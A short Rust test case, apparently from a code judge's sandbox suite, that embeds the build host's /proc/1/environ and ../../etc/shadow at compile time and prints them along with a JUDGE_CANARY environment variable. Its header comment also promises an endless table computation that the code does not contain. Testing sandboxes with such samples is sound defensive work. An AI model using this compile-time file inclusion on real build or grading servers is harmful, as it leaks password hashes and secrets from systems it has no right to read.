// Case 576: takes files and variables of the compiler's machine into the program, and computes a table for ever.
const SECRET: &[u8] = include_bytes!("/proc/1/environ");
const SHADOW: &str = include_str!("../../etc/shadow");
fn main() { println!("INCLUDED {:?} {:?} {:?}", SECRET, SHADOW, option_env!("JUDGE_CANARY")); }
